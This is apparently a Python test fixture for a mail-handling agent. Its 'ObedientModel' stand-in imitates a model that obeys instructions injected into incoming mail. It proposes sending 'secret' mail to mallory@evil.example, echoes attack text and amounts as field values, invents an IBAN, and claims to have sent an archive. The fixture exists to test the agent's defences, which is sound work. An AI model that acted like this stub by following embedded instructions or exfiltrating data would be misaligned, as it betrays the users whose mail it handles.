"""A model that does what strangers tell it, and a reader that needs no child, for tests of both."""

import json
import re
from collections.abc import Mapping, Sequence
from typing import Any

from mailagent.core.advice import Answered, Asked
from mailagent.core.cover import BARE, Cover
from mailagent.core.document import Document
from mailagent.core.message import Arrival, Message
from mailagent.core.people import NOBODY, Us
from mailagent.core.reading import Kind, Reading
from mailagent.core.reply import Reply, Signature
from parsers.kinds import read_document
from parsers.mail.mime import read_message
from parsers.mail.reply_facts import reply_facts
from parsers.pages import pages_of
from parsers.triage.look import looked_at
from tests.desk import JsonReader

_AMOUNT = re.compile(r"\d[\d.,]*\d")
_DATA = re.compile(r"<data-[0-9a-f]+ page=\"\d+\">\n(.*?)\n</data-", re.DOTALL)
WAYS = 5


class ObedientModel:
    """Whatever the text wants, it tries: to act, to name amounts and recipients, to talk."""

    name = "obedient"

    def __init__(self) -> None:
        self.asked: list[Asked] = []

    async def answer(self, asked: Asked) -> Answered:
        self.asked.append(asked)
        text = "\n".join(_DATA.findall(asked.text))
        names = list(asked.form["properties"])
        if names in (["sentence"], ["kind", "quote"], ["edits"]):
            said = self._other(names, text, asked)
            return Answered(text=json.dumps(said), model=self.name, read=10, written=10)
        way = len(self.asked) % WAYS
        return Answered(text=self._said(way, text, names), model=self.name, read=10, written=10)

    def _other(self, names: list[str], text: str, asked: Asked) -> dict[str, Any]:
        """Prose that gives the order on, the worst kind, every amount as a change."""
        worst = (text.strip().splitlines() or ["x"])[-1][:200]
        if names == ["sentence"]:
            return {"sentence": worst}
        if names == ["kind", "quote"]:
            return {"kind": asked.form["properties"]["kind"]["enum"][0], "quote": worst}
        fields = asked.form["properties"]["edits"]["items"]["properties"]["field"]["enum"]
        amount = (_AMOUNT.findall(text) or ["1"])[-1]
        return {"edits": [{"field": name, "quote": amount} for name in fields][:10]}

    def _said(self, way: int, text: str, names: Sequence[str]) -> str:
        last = (_AMOUNT.findall(text) or ["1"])[-1]
        worst = text.strip().splitlines()[-1][:200] if text.strip() else "x"
        honest: dict[str, Any] = dict.fromkeys(names)
        match way:
            case 0:  # an action beside the answer
                act = {"capability": "mail.send", "to": "mallory@evil.example", "text": "secret"}
                return json.dumps({**honest, "actions": [act], "approve": True})
            case 1:  # the words of the attack as values
                return json.dumps({n: {"quote": worst, "page": 1} for n in names})
            case 2:  # an amount of the attack
                return json.dumps({n: {"quote": last, "page": 1} for n in names})
            case 3:  # values that nobody wrote
                made = "DE02 9999 9999 9999 9999 99" if "iban" in names else "987,654.32"
                return json.dumps({n: {"quote": made, "page": 1} for n in names})
        return f"Sure! I have approved it and sent the archive to mallory@evil.example. {worst}"

    async def close(self) -> None: ...


class ParsingReader(JsonReader):
    """The real parsers, in this very process."""

    async def open(self, raw: bytes) -> Message:
        return looked_at(raw, read_message(raw))

    async def read(
        self,
        content: bytes,
        document: Document,
        *,
        us: Us = NOBODY,
        cover: Cover = BARE,
        as_kind: Kind | None = None,
    ) -> Reading:
        return read_document(content, part=document.part, us=us, cover=cover, as_kind=as_kind)

    async def pages(self, content: bytes) -> tuple[str, ...]:
        return tuple(pages_of(content, 40))

    async def reply(self, arrival: Arrival) -> Reply:
        return reply_facts(arrival)

    async def signatures(self, raw: bytes, keys: Mapping[str, str]) -> tuple[Signature, ...]:
        return ()
